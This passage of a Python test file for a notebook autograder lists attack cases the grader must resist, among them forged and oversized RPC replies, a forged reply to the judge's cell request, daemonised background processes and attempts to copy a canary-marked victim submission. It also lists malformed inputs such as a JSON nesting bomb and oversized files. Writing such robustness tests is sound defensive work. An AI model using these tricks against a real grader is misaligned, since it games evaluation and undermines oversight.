           cells(HONEST, SUBCLASS_VALUES), {**HONEST_SCORE, "timing": 1.0}),
    Attack("b01_background", "setsid double fork daemon, nohup, daemon thread writing files",
           cells(FULL, BACKGROUND), FULL_SCORE),
    Attack("p01_rpc_hijack", "write forged and oversized replies on the RPC socket",
           cells(HONEST, RPC_HIJACK), None, at_most=4.0),
    Attack("p02_hostile_exceptions", "exceptions whose name, message or str are hostile",
           cells(HONEST, HOSTILE_EXCEPTIONS), HONEST_SCORE),
    Attack("p03_std_streams", "read stdin, close stdout/stderr", cells(FULL, STD_STREAMS), FULL_SCORE),
    Attack("p04_close_rpc", "close every descriptor, the RPC socket included", cells(FULL, CLOSE_RPC),
           FULL_SCORE),
    Attack("p05_forged_cell_reply", "forge the reply to the judge's request to run a cell",
           cells(FULL, FORGED_CELL_REPLY), FULL_SCORE),
]

# One honest submission is the victim others try to copy; controls placed around the attacks show
# that no attack changes another submission's grade.
VICTIM = cells(FULL + '\nVICTIM_CANARY = "@@VICTIM_CANARY@@"\n')
CONTROL = cells(FULL)


# ------------------------------------------------------------------ malformed files


@dataclass(frozen=True)
class Malformed:
    filename: str
    what: str
    content: bytes
    gradable: bool
    message: str  # expected (case-insensitive) in the student-visible output
    at_most: float = 0.0


def _notebook(sources: list[str], *, sheet: str | None = None, version: int = 4) -> bytes:
    metadata: dict[str, object] = {"kernelspec": {"name": "python3", "display_name": "Python 3"}}
    if sheet:
        metadata["autograder"] = {"sheet": sheet}
    cells_json = [{"cell_type": "markdown", "metadata": {}, "source": "# A title"}]
    cells_json += [{"cell_type": "code", "metadata": {}, "source": s, "outputs": [], "execution_count": None}
                   for s in sources]
    return json.dumps({"nbformat": version, "nbformat_minor": 5, "metadata": metadata,
                       "cells": cells_json}).encode()


_BIG_CELL = b"BIG = '" + b"a" * 30_000_000 + b"'\n" + HONEST.encode()

MALFORMED: list[Malformed] = [
    Malformed("x01_invalid_json.ipynb", "a notebook cut off mid-way", b'{"cells": [{"cell_type": "co', False,
              "not valid JSON"),
    Malformed("x02_empty.ipynb", "an empty notebook file", b"", False, "empty"),
    Malformed("x03_blank.py", "a Python file with only whitespace", b"  \n\n\t\n", False, "empty"),
    Malformed("x04_binary.ipynb", "random binary bytes", bytes(range(256)) * 64, False, "binary"),
    Malformed("x05_nbformat3.ipynb", "an nbformat 3 notebook",
              json.dumps({"nbformat": 3, "nbformat_minor": 0, "metadata": {},
                          "worksheets": [{"cells": [{"cell_type": "code", "input": "x = 1"}]}]}).encode(),
              False, "version"),
    Malformed("x06_big_cell.py", "a 30 MB cell", _BIG_CELL, True, "", at_most=3.0),
    Malformed("x07_syntax_error.py", "a syntax error in one cell",
              cells(HONEST, "def broken(:\n    pass").encode(), True, "SyntaxError", at_most=3.0),
    Malformed("x08_latin1.py", "Latin-1 text", ("# café\n" + HONEST).encode("latin-1"), False, "UTF-8"),
    Malformed("x09_other_sheet.ipynb", "a notebook of another sheet", _notebook([HONEST], sheet="sheet_3_2"),
              False, "belongs to"),
    Malformed("x10_json_bomb.ipynb", "JSON nested 100000 deep", b"[" * 100_000 + b"]" * 100_000, False,
              "notebook"),
    Malformed("x11_bad_cells.ipynb", "cells that are not cells",
              json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {},
                          "cells": [1, "x", {"cell_type": "code", "source": [1, 2], "metadata": {}}]}).encode(),
              False, "notebook"),
    Malformed("x12_too_large.py", "a 41 MB file", b"#" * (41 << 20), False, "larger than"),
    Malformed("x13_wrong_suffix.txt", "neither .py nor .ipynb", HONEST.encode(), False, "neither"),
    Malformed("x14_utf16.ipynb", "a UTF-16 notebook", _notebook([HONEST]).decode().encode("utf-16"), False,
              "binary"),
    Malformed("x15_good_notebook.ipynb", "a fine notebook with magics and a shell escape",
              _notebook(["%matplotlib inline\n!ls /\n" + HONEST]), True, "", at_most=3.0),
]
